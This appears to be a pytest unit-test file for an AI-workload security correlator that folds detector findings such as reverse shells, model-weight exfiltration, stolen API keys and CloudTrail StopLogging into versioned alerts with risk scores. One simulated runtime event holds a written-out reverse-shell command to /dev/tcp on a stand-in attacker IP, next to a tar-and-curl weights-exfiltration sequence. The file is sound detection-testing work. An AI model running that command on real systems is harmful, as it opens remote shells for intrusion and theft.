"""Correlation: anchors, one alert per attack path, versions, idempotence, risk and severity."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from detectors.config import DetectionConfig
from detectors.correlation import CONTINUES, Correlator, anchor, person, risk_score
from detectors.registry import build_all, by_class, detect_all
from schemas import entities as ent
from schemas.findings import Alert, Finding, stable_id
from streams.simulator.estate import detection_config
from tests.contract.events import T0, cloudtrail, gateway, runtime

pytestmark = pytest.mark.unit

CONFIG = detection_config()  # the simulator's estate: these tests use its names
POD = ent.pod("ml-prod", "vllm-0")
CONTAINER = ent.container("3f2a9c1b7d4e")


def finding(detector: str, *, t: int = T0, entity: str = CONTAINER, entities: tuple[str, ...] = (POD,),
            severity: str = "high", tactics: tuple[str, ...] = ("execution",), maturity: str = "stable",
            phrase: str = "", anomaly: float = 0.0, public: bool = False, ai: bool = True, n: int = 0,
            ai_workload: bool = True) -> Finding:
    return Finding(
        finding_id=stable_id(detector, entity, str(t), str(n)),
        detector=detector,
        title=detector.replace("_", " "),
        maturity=maturity,
        severity=severity,
        time_ms=t,
        entity_id=entity,
        entities=[entity, *entities],
        summary=f"{detector} on {entity}",
        tactics=list(tactics),
        atlas_techniques=["AML.T0050"],
        attack_techniques=["T1059.004"],
        evidence_event_ids=[f"ev-{detector}-{t}-{n}"],
        anomaly_score=anomaly,
        ai_asset=ai,
        public_exposure=public,
        attributes={"phrase": phrase or f"did {detector}", "ai_workload": "true" if ai_workload else "false"},
    )


def fold(findings: list[Finding], config: DetectionConfig = CONFIG) -> tuple[list[Alert | None], dict[str, Any]]:
    correlator = Correlator(config)
    states: dict[str, dict[str, Any]] = {}
    out = [correlator.add(f, states.setdefault(anchor(f), {})) for f in findings]
    return out, states


def test_anchor_preference() -> None:
    assert anchor(finding("x")) == POD  # pod before container
    assert anchor(finding("x", entity=CONTAINER, entities=())) == CONTAINER
    key = finding("x", entity=ent.apikey("k"), entities=(ent.principal("alice"), ent.ip("1.2.3.4")))
    assert anchor(key) == ent.apikey("k")
    principal = finding("x", entity=ent.principal("alice"), entities=(ent.ip("1.2.3.4"), ent.namespace("ml")))
    assert anchor(principal) == ent.principal("alice")
    assert anchor(finding("x", entity=ent.ip("1.2.3.4"), entities=(ent.host("h"),))) == ent.ip("1.2.3.4")
    assert anchor(finding("x", entity=ent.namespace("ml"), entities=())) == ent.namespace("ml")


SSO = "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Developer_2b9d41c7e8a0f356/ana.lima"
ROLE_SESSION = "arn:aws:sts::111122223333:assumed-role/etl-role/airflow"


def test_one_persons_findings_meet_across_keys_cluster_and_account() -> None:
    """A campaign over several keys of one user, and one person's cluster and AWS steps, anchor on the person;
    a service's keys stay apart (a service holds many keys with different fates)."""
    assert person(ent.principal(SSO)) == person(ent.principal("ana.lima@example.com")) == ent.principal("ana.lima")
    assert person(ent.principal(ROLE_SESSION)) == ent.principal(ROLE_SESSION)
    assert person(ent.principal("svc-search")) == person(ent.principal("system:serviceaccount:ci:deployer")) == ""
    keys = [finding("prompt_injection", entity=ent.apikey(f"key-{i}"), n=i,
                    entities=(ent.principal("ana.lima@example.com"), ent.ip(f"10.8.0.{i}"))) for i in range(3)]
    cluster = finding("exposed_ai_workload", entity=ent.principal("ana.lima@example.com"), entities=(), n=7)
    account = finding("exposed_ai_workload", entity=ent.principal(SSO), entities=(ent.apikey("ASIAEXAMPLE"),), n=8)
    alerts, states = fold([*keys, cluster, account])
    assert len({a.alert_id for a in alerts if a}) == 1 and list(states) == [ent.principal("ana.lima")]
    assert alerts[-1] is not None and alerts[-1].primary_entity == ent.principal("ana.lima@example.com")
    assert ent.principal(SSO) in alerts[-1].entities
    # a stolen access key and its session's S3 writes: one story about the session
    stolen = finding("stolen_api_key", entity=ent.apikey("ASIAEXAMPLE"), entities=(ent.principal(ROLE_SESSION),))
    writes = finding("data_poisoning", entity=ent.principal(ROLE_SESSION), entities=(ent.apikey("ASIAEXAMPLE"),))
    assert anchor(stolen) == anchor(writes) == ent.principal(ROLE_SESSION)
    services = [finding("stolen_api_key", entity=ent.apikey(f"key-{i}"), entities=(ent.principal("svc-search"),))
                for i in range(2)]
    assert [anchor(f) for f in services] == [ent.apikey("key-0"), ent.apikey("key-1")]


def test_attack_path_becomes_one_alert() -> None:
    shell = finding("model_server_shell", phrase="spawned a reverse shell", severity="critical")
    weights = finding("weights_exfiltration", t=T0 + 60_000, severity="critical",
                      tactics=("collection", "exfiltration"),
                      phrase="read model weights and sent 820 MB to 203.0.113.9", entities=(POD, ent.ip("203.0.113.9")),
                      anomaly=0.8)
    alerts, states = fold([shell, weights])
    first, second = alerts
    assert first is not None and second is not None
    assert first.alert_id == second.alert_id == stable_id(POD, shell.finding_id)
    assert (first.version, second.version) == (1, 2)
    assert second.first_seen == T0 and second.last_seen == T0 + 60_000
    assert second.detectors == ["model_server_shell", "weights_exfiltration"]
    assert second.tactics == ["execution", "collection", "exfiltration"]
    assert second.severity == "critical" and second.primary_entity == POD
    assert second.summary == (
        "Model server pod ml-prod/vllm-0 spawned a reverse shell, then read model weights and sent 820 MB to "
        "203.0.113.9 (3 tactics)"
    )
    assert ent.ip("203.0.113.9") in second.entities and CONTAINER in second.entities
    assert second.evidence_event_ids == shell.evidence_event_ids + weights.evidence_event_ids
    # two detectors confirm one attack path: +5 (clamped at 100)
    assert second.risk_score == risk_score("critical", False, True, 0.8, 3, 2) == min(100, 75 + 5 + 8 + 10 + 5)
    assert len(states) == 1


def route(findings: list[Finding]) -> tuple[list[Alert | None], dict[str, Any]]:
    """What the correlate stage does: each finding at its own anchor, or forwarded and folded where it goes."""
    correlator = Correlator(CONFIG)
    states: dict[str, dict[str, Any]] = {}
    out = []
    for f in findings:
        route = correlator.forward_to(f, states.setdefault(anchor(f), {}))
        key = route[0] if route else anchor(f)
        out.append(correlator.add(f, states.setdefault(key, {}), key))
        if route and route[1]:
            out.append(correlator.merge(route[1], states[key], f.time_ms))
    return out, states


def test_exposed_vulnerable_workload_and_its_shell_join_the_exposure_alert() -> None:
    """An engineer exposes a model server; its replicas run a critical CVE in use; one replica spawns a reverse
    shell: one alert (at the engineer's anchor), about the attacked pod, not a second one per pod."""
    engineer = ent.principal("ana.lima@example.com")
    replica = ent.pod("ml-prod", "vllm-1")
    exposure = finding("exposed_ai_workload", entity=engineer, entities=(ent.namespace("ml-prod"),),
                       tactics=("initial-access",), phrase="exposed LoadBalancer vllm-public")

    def vulnerable(pod: str, t: int) -> Finding:
        f = finding("vulnerable_ai_workload", t=t, entity=pod, entities=(engineer,), severity="critical",
                    tactics=("initial-access",), phrase="is publicly exposed and runs vulnerable vllm 0.6.3 in use")
        f.attributes[CONTINUES] = engineer
        return f

    shell = finding("model_server_shell", t=T0 + 90_000, entity=CONTAINER, entities=(POD,), severity="critical",
                    phrase="spawned a reverse shell")
    later = finding("model_server_shell", t=T0 + 90_000 + 3 * CONFIG.correlation_window_s * 1000, entity=CONTAINER,
                    entities=(POD,), severity="critical", phrase="spawned a reverse shell", n=1)
    alerts, states = route([exposure, vulnerable(replica, T0 + 30_000), vulnerable(POD, T0 + 40_000), shell, later])
    ids = [a.alert_id for a in alerts if a]
    assert len(set(ids[:4])) == 1 and ids[0] == stable_id(ent.principal("ana.lima"), exposure.finding_id)
    joined = alerts[3]
    assert joined is not None and joined.version == 4
    assert joined.detectors == ["exposed_ai_workload", "vulnerable_ai_workload", "model_server_shell"]
    assert joined.primary_entity == POD  # the attacked pod, not the engineer nor the first vulnerable replica
    assert joined.summary.startswith("Model server pod ml-prod/vllm-0 exposed LoadBalancer vllm-public, then is")
    assert {engineer, replica, POD} <= set(joined.entities)
    # the pod's story stays at the engineer's alert for a correlation window after its last finding there;
    # a shell three windows later is the pod's own alert
    assert states[POD]["fw"][0] == ent.principal("ana.lima") and states[POD]["an"] == POD
    assert alerts[4] is not None and alerts[4].alert_id not in ids[:4]
    assert alerts[4].primary_entity == POD and set(states) == {ent.principal("ana.lima"), replica, POD}
    assert states[replica]["fw"][0] == ent.principal("ana.lima")  # any replica behind the Service: one story


def test_a_finding_naming_its_own_anchor_is_not_forwarded() -> None:
    f = finding("vulnerable_ai_workload", severity="critical")
    f.attributes[CONTINUES] = POD
    assert Correlator(CONFIG).forward_to(f, {}) is None


def test_an_alert_open_where_the_story_continues_elsewhere_is_merged_there() -> None:
    """Falco alone sees the server in use only when it misbehaves: the pod's shell alert is open before the
    vulnerability (which names the engineer who exposed it) arrives. The pod's alert goes along and is merged
    into the engineer's exposure alert; its last version says so; merging it again changes nothing."""
    engineer = ent.principal("ana.lima@example.com")
    exposure = finding("exposed_ai_workload", entity=engineer, entities=(), tactics=("initial-access",),
                       phrase="exposed LoadBalancer vllm-public")
    shell = finding("model_server_shell", t=T0 + 60_000, severity="critical", phrase="spawned a reverse shell")
    vulnerable = finding("vulnerable_ai_workload", t=T0 + 61_000, entity=POD, entities=(engineer,),
                         severity="critical", tactics=("initial-access",), phrase="runs vulnerable vllm in use")
    vulnerable.attributes[CONTINUES] = engineer
    alerts, states = route([exposure, shell, vulnerable])
    first, pods, joined, merged = alerts
    assert first is not None and pods is not None and joined is not None and merged is not None
    assert pods.alert_id != first.alert_id and pods.primary_entity == POD
    assert (merged.alert_id, merged.status, merged.merged_into) == (pods.alert_id, "merged", first.alert_id)
    assert merged.version == pods.version + 1
    final = Correlator(CONFIG).alert(states[ent.principal("ana.lima")], T0 + 61_000)
    assert final.alert_id == first.alert_id and final.status == "open"
    assert final.detectors == ["exposed_ai_workload", "vulnerable_ai_workload", "model_server_shell"]
    assert final.primary_entity == POD and shell.finding_id in final.finding_ids
    assert final.first_seen == T0 and final.last_seen == T0 + 61_000
    assert "id" not in states[POD] and states[POD]["fw"][0] == ent.principal("ana.lima")
    carried = {"id": pods.alert_id, **{k: v for k, v in states[ent.principal("ana.lima")].items() if k != "id"}}
    assert Correlator(CONFIG).merge(carried, states[ent.principal("ana.lima")], T0) is None  # redelivered


def test_single_finding_alert_keeps_its_summary() -> None:
    (alert,), _ = fold([finding("cryptominer", entity=CONTAINER, severity="critical", tactics=("impact",))])
    assert alert is not None and alert.summary == f"cryptominer on {CONTAINER}"


def test_redelivery_is_idempotent() -> None:
    f = finding("model_server_shell")
    correlator = Correlator(CONFIG)
    state: dict[str, Any] = {}
    alert = correlator.add(f, state)
    assert alert is not None and alert.version == 1
    assert correlator.add(f, state) is None
    again = Correlator(CONFIG).add(f, {})  # reprocessing from scratch: the same alert id
    assert again is not None and again.alert_id == alert.alert_id


def test_repeat_updates_the_open_alert_and_window_closes_it() -> None:
    f1 = finding("shadow_ai_egress", severity="medium", tactics=("exfiltration",))
    f2 = finding("shadow_ai_egress", t=T0 + 120_000, severity="medium", tactics=("exfiltration",))
    late = finding("shadow_ai_egress", t=T0 + 120_000 + CONFIG.correlation_window_s * 1000 + 1,
                   severity="medium", tactics=("exfiltration",))
    (a1, a2, a3), _ = fold([f1, f2, late])
    assert a1 is not None and a2 is not None and a3 is not None
    assert a2.alert_id == a1.alert_id and a2.version == 2 and a2.last_seen == T0 + 120_000
    assert a3.alert_id != a1.alert_id and a3.version == 1
    short = DetectionConfig(correlation_window_s=60)
    (b1, b2), _ = fold([f1, f2], short)
    assert b1 is not None and b2 is not None and b1.alert_id != b2.alert_id


def test_severity_bump_with_three_tactics_and_maturity() -> None:
    findings = [
        finding("a", severity="medium", tactics=("execution",), maturity="sandbox", n=1),
        finding("b", severity="medium", tactics=("collection",), maturity="incubating", n=2),
        finding("c", severity="low", tactics=("exfiltration",), maturity="sandbox", n=3),
    ]
    alerts, _ = fold(findings)
    assert [a.severity for a in alerts if a] == ["medium", "medium", "high"]
    assert [a.maturity for a in alerts if a] == ["sandbox", "incubating", "incubating"]
    (sandbox_only,), _ = fold([finding("a", maturity="sandbox")])
    assert sandbox_only is not None and sandbox_only.maturity == "sandbox"


def test_risk_score_formula() -> None:
    assert risk_score("info", False, False, 0.0, 1) == 5.0
    assert risk_score("medium", True, False, 0.0, 1) == 45.0
    assert risk_score("high", False, True, 0.5, 2) == 70.0
    assert risk_score("critical", True, True, 1.0, 9) == 100.0
    (exposed,), _ = fold([finding("exposed_ai_workload", entity=ent.principal("bob"), entities=(),
                                  public=True, tactics=("initial-access", "ml-model-access"))])
    assert exposed is not None and exposed.risk_score == 55 + 10 + 5 + 5


def test_subjects_of_summaries() -> None:
    key = ent.apikey("key-1")
    alerts, _ = fold([
        finding("stolen_api_key", entity=key, entities=(ent.principal("svc-rag-api"),), phrase="was used from new IP x",
                tactics=("initial-access",)),
        finding("cost_harvesting", entity=key, entities=(), phrase="ran up token spend on gpt-4o", tactics=("impact",),
                t=T0 + 1000),
    ])
    assert alerts[-1] is not None
    assert alerts[-1].summary == (
        "API key key-1 (svc-rag-api) was used from new IP x, then ran up token spend on gpt-4o (2 tactics)"
    )
    pods, _ = fold([finding("x", ai_workload=False, phrase="p1"), finding("y", ai_workload=False, phrase="p2", n=1)])
    assert pods[-1] is not None and pods[-1].summary.startswith("Pod ml-prod/vllm-0 p1, then p2")


def test_state_is_bounded_and_json() -> None:
    correlator = Correlator(CONFIG)
    state: dict[str, Any] = {}
    alert = None
    for i in range(2000):
        f = finding(f"det_{i % 40}", t=T0 + i * 100, n=i, entities=(POD, ent.ip(f"203.0.113.{i % 250}")),
                    tactics=(f"tactic-{i % 20}",))
        alert = correlator.add(f, state) or alert
        state = orjson.loads(orjson.dumps(state))
    assert alert is not None and alert.version == 2000
    assert len(alert.entities) <= CONFIG.max_alert_entities and len(alert.evidence_event_ids) <= 20
    assert len(alert.finding_ids) <= CONFIG.max_alert_findings
    size = len(orjson.dumps(state))
    print(f"\ncorrelation state after 2000 findings: {size} B")
    assert size < 8192
    assert Alert.from_dict(orjson.loads(orjson.dumps(alert.to_dict()))) == alert


def test_findings_from_detectors_correlate_into_attack_paths() -> None:
    events = [
        runtime("process_exec", process="bash", cmdline="bash", parent="python3", t=T0),
        runtime("process_exec", process="sh", cmdline="sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="bash",
                t=T0 + 5000),
        runtime("file_open", file_path="/models/llama/model-00001-of-00004.safetensors", process="tar",
                cmdline="tar czf - /models/llama", t=T0 + 70_000),
        runtime("network_connect", process="curl", dst_ip="203.0.113.9", dst_port=443, bytes_out=820_000_000,
                t=T0 + 75_000),
        *[gateway(key="key-1", t=T0 + i * 3000, seq=i) for i in range(10)],
        gateway(key="key-1", t=T0 + 40_000, ip="198.51.100.23", agent="curl/8.5.0", seq=50),
        cloudtrail("StopLogging", "cloudtrail", t=T0 + 1000),
    ]
    dispatch = by_class(build_all(CONFIG))
    states: dict[tuple[str, str], dict[str, Any]] = {}
    findings = [f for e in sorted(events, key=lambda e: e.time_ms) for f in detect_all(dispatch, e, states)]
    alerts, cstates = fold(findings)
    final = {a.alert_id: a for a in alerts if a is not None}
    assert len(final) == 3
    pod_alert = next(a for a in final.values() if a.primary_entity == POD)
    assert pod_alert.detectors == ["model_server_shell", "weights_exfiltration"]
    assert pod_alert.severity == "critical" and len(pod_alert.tactics) == 3
    assert pod_alert.summary.startswith("Model server pod ml-prod/vllm-0 spawned a shell, then spawned a reverse shell")
    assert "820 MB to 203.0.113.9" in pod_alert.summary
    # the StopLogging session is an IAM Identity Center one: its alert is the person's, on the session itself
    wei = "arn:aws:sts::418295730164:assumed-role/AWSReservedSSO_Developer_2b9d41c7e8a0f356/wei.meyer"
    assert {a.primary_entity for a in final.values()} == {POD, ent.apikey("key-1"), ent.principal(wei)}
    assert ent.principal("wei.meyer") in cstates


def test_risk_follows_the_asset_and_corroboration() -> None:
    """A miner (high) in a workload known as an AI workload, confirmed by a second detector, reaches the
    default containment bar (min_risk 60) whatever its node is called."""
    assert risk_score("high", False, False, 0.0, 1) == 55.0  # the miner on a node named like nothing
    assert risk_score("high", False, True, 0.0, 1) == 60.0  # ... in a known AI workload
    assert risk_score("high", False, True, 0.0, 1, 2) == 65.0  # ... confirmed by a second detector
    assert risk_score("high", False, True, 0.0, 1, 9) == 70.0  # corroboration counts twice at most


def test_attack_path_summary_tells_the_way_in_first() -> None:
    shell = finding("model_server_shell", severity="critical", phrase="spawned a reverse shell", t=T0)
    vulnerable = finding("vulnerable_ai_workload", entity=POD, entities=(ent.image("vllm/vllm-openai:v0.6.3"),),
                         severity="critical", public=True, tactics=("initial-access", "execution"), t=T0 + 5000,
                         phrase="is publicly exposed and runs vulnerable vllm 0.6.3 in use (CVE-2024-11041)")
    alerts, states = fold([shell, vulnerable])
    assert len(states) == 1, "one anchor, one attack path"
    alert = alerts[-1]
    assert alert is not None and alert.severity == "critical" and alert.version == 2
    assert alert.summary == (
        "Model server pod ml-prod/vllm-0 is publicly exposed and runs vulnerable vllm 0.6.3 in use "
        "(CVE-2024-11041), then spawned a reverse shell (2 tactics)"
    )
